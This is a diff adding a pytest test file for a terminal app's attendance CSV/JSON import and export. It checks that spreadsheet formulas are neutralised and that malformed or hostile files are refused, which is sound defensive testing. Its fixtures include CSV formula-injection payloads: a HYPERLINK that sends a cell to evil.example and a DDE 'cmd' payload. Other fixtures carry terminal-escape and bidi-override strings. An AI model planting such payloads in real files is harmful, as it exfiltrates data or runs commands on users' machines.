@@ -1,0 +1,308 @@
+"""Imports read as a stranger's file; CSV exports a spreadsheet cannot run as formulas."""
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from circle_tui.cli import main
+from circle_tui.core.record import FIELDS
+from circle_tui.storage.attendance import FILE_NAME, AttendanceLog
+from circle_tui.storage.exchange import (
+    MAX_DEPTH,
+    MAX_IMPORT_BYTES,
+    csv_text,
+    neutralise,
+    parse_export,
+    restore,
+)
+from tests.helpers import record
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "'quoted from the start",
+    "''two quotes",
+    "Tuesday = Thursday",
+    "plain Tuesday circle",
+]
+
+
+def run(capsys, *argv):
+    code = main(list(argv))
+    out = capsys.readouterr()
+    return code, out.out, out.err
+
+
+@pytest.fixture
+def log_bytes(isolated_dirs):
+    """A log with one session in it, and a way to read its exact bytes."""
+    log, _ = AttendanceLog.open(isolated_dirs["data"])
+    log.save(record())
+    path = isolated_dirs["data"] / FILE_NAME
+    return path.read_bytes
+
+
+def import_file(capsys, tmp_path, content, name="import.csv"):
+    path = tmp_path / name
+    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
+    code, out, err = run(capsys, "attendance", "import", str(path))
+    return code, out, err, str(path)
+
+
+# -- spreadsheet-safe CSV --------------------------------------------------------------------
+def test_formula_cells_are_neutralised_with_a_leading_quote(isolated_dirs, capsys):
+    log, _ = AttendanceLog.open(isolated_dirs["data"])
+    for name in FORMULAS:
+        log.save(record(circle=name))
+    _, out, _ = run(capsys, "attendance", "--format", "csv")
+    cells = [row[1] for row in csv.reader(io.StringIO(out))][1:]
+    assert sorted(cells) == sorted("'" + n if n[0] in "=+-@'" else n for n in FORMULAS)
+    assert not [c for c in cells if c[0] in "=+-@\t\r"]
+
+
+def test_export_import_export_is_byte_identical_with_formula_payloads(
+    isolated_dirs, capsys, tmp_path
+):
+    log, _ = AttendanceLog.open(isolated_dirs["data"])
+    for name in FORMULAS:
+        log.save(record(circle=name))
+    for fmt in ("csv", "json"):
+        _, first, _ = run(capsys, "attendance", "--format", fmt)
+        export = tmp_path / f"export.{fmt}"
+        export.write_text(first, encoding="utf-8", newline="")
+        other = tmp_path / f"other-{fmt}"
+        code, said, err = run(capsys, "--data-dir", str(other), "attendance", "import", str(export))
+        assert code == 0, err
+        _, second, _ = run(capsys, "--data-dir", str(other), "attendance", "--format", fmt)
+        assert second == first
+        assert {r.circle for r in AttendanceLog.read_only(other).records()} == set(FORMULAS)
+
+
+@given(st.text())
+def test_restore_undoes_neutralise_for_any_text(cell):
+    assert restore(neutralise(cell)) == cell
+
+
+def test_a_cell_a_person_began_with_a_quote_is_kept_as_typed():
+    assert restore("'Tuesday") == "'Tuesday"
+
+
+def test_values_with_cr_or_lf_are_quoted():
+    text = csv_text([record(circle="two\rlines"), record(circle="two\nlines")])
+    rows = text.split("\r\n")
+    assert '"two\rlines"' in rows[1] and '"two\nlines"' in text
+
+
+# -- what spreadsheets and editors save -------------------------------------------------------
+def export_of(records, fmt):
+    if fmt == "csv":
+        return csv_text(records)
+    return json.dumps([r.to_dict() for r in records], indent=2) + "\n"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+@pytest.mark.parametrize(
+    "saved",
+    [
+        lambda t: "\ufeff" + t,  # Excel's "CSV UTF-8"
+        lambda t: t.replace("\r\n", "\n").replace("\n", "\r\n"),
+        lambda t: t.replace("\r\n", "\n").replace("\n", "\r"),  # classic Mac line ends
+        lambda t: t + ",,,,,,,,\r\n\r\n,,,,,,,,\r\n" if t.startswith("id") else t + "\n\n\n",
+        lambda t: "\ufeff" + t.replace("\r\n", "\n").replace("\n", "\r"),
+    ],
+    ids=["bom", "crlf", "cr", "trailing-empty-rows", "bom-and-cr"],
+)
+def test_files_as_spreadsheets_and_editors_save_them_are_imported(
+    isolated_dirs, capsys, tmp_path, fmt, saved
+):
+    records = [record("2026-10-01", "Tuesday circle"), record("2026-10-08", "Friday, late")]
+    code, out, err, _ = import_file(capsys, tmp_path, saved(export_of(records, fmt)))
+    assert code == 0, err
+    assert "imported 2 sessions" in out
+    assert AttendanceLog.read_only(isolated_dirs["data"]).records() == records
+
+
+def test_a_bad_row_in_a_cr_only_file_names_its_line(isolated_dirs, capsys, tmp_path):
+    good = record()
+    text = csv_text([good, record(), record()]).replace("\r\n", "\r")
+    text = text.replace(",9,3,", ",9,x3,", 1)
+    code, _, err, path = import_file(capsys, tmp_path, text)
+    assert code == 2 and f"{path}:2: newcomers: expected a whole number, got 'x3'" in err
+
+
+# -- anything else: FILE:LINE: field: what is wrong, exit 2, the log unchanged --------------
+GOOD = record().to_dict()
+HEADER = ",".join(FIELDS)
+
+
+def csv_row(**changes):
+    return ",".join(str({**GOOD, **changes}[f]) for f in FIELDS)
+
+
+BAD_FILES = [
+    pytest.param(
+        f"{HEADER}\n{csv_row()}\n{csv_row(present='9' * 5000)}\n",
+        ":3: present: a number of 5,000 digits; expected 0 to 10,000",
+        id="csv-too-many-digits",
+    ),
+    pytest.param(
+        json.dumps([GOOD]).replace('"present": 9', '"present": ' + "9" * 5000),
+        ":1: present: a number of 5,000 digits; expected 0 to 10,000",
+        id="json-too-many-digits",
+    ),
+    pytest.param(
+        "[\n" + "[" * 100_000 + "]" * 100_000 + "\n]",
+        f":2: nested more than {MAX_DEPTH} levels deep",
+        id="json-deep-nesting",
+    ),
+    pytest.param(
+        json.dumps([GOOD]).replace('"present": 9', '"present": 9, "present": 90'),
+        ":1: present: given twice in one record",
+        id="json-repeated-key",
+    ),
+    pytest.param(
+        f"{HEADER}\n{csv_row(circle='Tue' + chr(27) + '[2Jday')}\n",
+        ":2: circle: a control character (U+001B, escape) at character 4",
+        id="csv-escape-in-name",
+    ),
+    pytest.param(
+        json.dumps([{**GOOD, "circle": "Tuesday \u202egnp.exe"}]),
+        ":1: circle: a text-direction control (U+202E, right-to-left override)",
+        id="json-bidi-override",
+    ),
+    pytest.param(
+        json.dumps([GOOD]).replace('"circle": "Tuesday circle"', '"circle": "Tue\\ud800"'),
+        ":1: circle: a lone surrogate (U+D800)",
+        id="json-lone-surrogate",
+    ),
+    pytest.param(
+        f"{HEADER}\n{csv_row(circle='x' * 5000)}\n",
+        ":2: circle: 5,000 characters, over the limit of 1,000",
+        id="csv-field-too-long",
+    ),
+    pytest.param(
+        f"{HEADER}\n{csv_row()},extra\n", ":2: 10 cells; the header has 9", id="csv-extra-cell"
+    ),
+    pytest.param(f"{HEADER}\n{GOOD['id']},Tuesday\n", ":2: 2 cells", id="csv-short-row"),
+    pytest.param(
+        f"{HEADER}\n{csv_row(present='²')}\n",
+        ":2: present: expected a whole number, got '²'",
+        id="csv-superscript-digit",
+    ),
+    pytest.param(
+        f"{HEADER}\n{csv_row(present='--5')}\n",
+        ":2: present: expected a whole number, got '--5'",
+        id="csv-double-minus",
+    ),
+    pytest.param(
+        json.dumps([GOOD]) + " trailing", ":1: text after the closing `]`", id="json-trailing"
+    ),
+    pytest.param(json.dumps([GOOD])[:-1] + ",]", ":1: a comma before the closing", id="json-comma"),
+    pytest.param(json.dumps([GOOD])[:-1], ":1: the JSON list is not closed", id="json-unclosed"),
+    pytest.param(
+        json.dumps({"sessions": {}}), ":1: a JSON object, not a list of records", id="json-object"
+    ),
+    pytest.param(
+        json.dumps([{**GOOD, "x" * 5000: 1}]),
+        ":1: xxxxxxxxxxxxxxxxxxxxxxxx…: unknown field",
+        id="json-huge-key",
+    ),
+    pytest.param("", ":1: no header", id="empty"),
+    pytest.param(b"id,circle\n\xff\xfe\n", ":2: not UTF-8 text", id="not-utf8"),
+]
+
+
+@pytest.mark.parametrize(("content", "message"), BAD_FILES)
+def test_a_bad_file_gets_its_line_and_field_exit_2_and_the_log_is_unchanged(
+    log_bytes, capsys, tmp_path, content, message
+):
+    before = log_bytes()
+    code, out, err, path = import_file(capsys, tmp_path, content)
+    assert code == 2 and out == ""
+    assert f"{path}{message}" in err
+    assert "nothing imported" in err and "Traceback" not in err
+    assert log_bytes() == before
+
+
+def test_two_rows_with_one_id_name_both_lines(log_bytes, capsys, tmp_path):
+    before = log_bytes()
+    twin = record()
+    text = csv_text([twin, record(), twin._replace(present=12)])
+    code, _, err, path = import_file(capsys, tmp_path, text)
+    assert code == 2
+    assert f"{path}:4: id: the same id as line 2; one session would hide the other" in err
+    code, _, err, path = import_file(
+        capsys, tmp_path, json.dumps([twin.to_dict(), twin.to_dict()], indent=1), "twin.json"
+    )
+    assert code == 2 and f"{path}:13: id: the same id as line 2" in err
+    assert log_bytes() == before
+
+
+def test_an_oversized_file_is_refused_before_it_is_read(log_bytes, capsys, tmp_path):
+    before = log_bytes()
+    big = tmp_path / "big.csv"
+    with open(big, "wb") as f:
+        f.truncate(MAX_IMPORT_BYTES + 1)  # sparse: no disk used
+    code, _, err = run(capsys, "attendance", "import", str(big))
+    assert code == 2 and f"{big}: the file is over the 16 MiB limit (16,777,217 bytes)" in err
+    assert log_bytes() == before
+
+
+@pytest.mark.parametrize("kind", ["fifo", "directory", "device"])
+def test_a_fifo_device_or_directory_is_refused_without_hanging(log_bytes, tmp_path, kind):
+    before = log_bytes()
+    target = {"fifo": tmp_path / "pipe.csv", "directory": tmp_path, "device": "/dev/zero"}[kind]
+    if kind == "fifo":
+        os.mkfifo(target)
+    done = subprocess.run(
+        [sys.executable, "-m", "circle_tui", "attendance", "import", str(target)],
+        capture_output=True,
+        text=True,
+        timeout=30,  # a FIFO opened for reading would wait here for a writer, forever
+    )
+    assert done.returncode == 2
+    assert "not a regular file" in done.stderr and "Traceback" not in done.stderr
+    assert log_bytes() == before
+
+
+def test_many_bad_rows_show_the_first_twenty_and_a_count(log_bytes, capsys, tmp_path):
+    rows = "\n".join(csv_row(id=record().id, present="x") for _ in range(50))
+    code, _, err, _ = import_file(capsys, tmp_path, f"{HEADER}\n{rows}\n")
+    lines = err.splitlines()
+    assert code == 2 and len(lines) == 22
+    assert lines[20] == "… and 30 more" and "50 problems" in lines[21]
+
+
+def test_parse_export_names_lines_from_bytes_directly():
+    records, problems = parse_export(b"\xef\xbb\xbf" + csv_text([record()]).encode(), "x.csv")
+    assert len(records) == 1 and problems == []
+
+
+def nested(levels):
+    return "[" * levels + '"x"' + "]" * levels
+
+
+@pytest.mark.parametrize(
+    ("lists", "message"),
+    [
+        (MAX_DEPTH - 2, "circle: expected text, got list"),  # the list, the record, and these
+        (MAX_DEPTH - 1, f"nested more than {MAX_DEPTH} levels deep"),
+        (5000, f"nested more than {MAX_DEPTH} levels deep"),  # past Python's recursion limit
+    ],
+)
+def test_nesting_is_capped_at_max_depth_with_its_own_message(
+    log_bytes, capsys, tmp_path, lists, message
+):
+    text = "[\n" + json.dumps({**GOOD, "circle": "@@"}).replace('"@@"', nested(lists))
+    code, _, err, path = import_file(capsys, tmp_path, text + "\n]\n", "deep.json")
+    assert code == 2 and f"{path}:2: {message}" in err
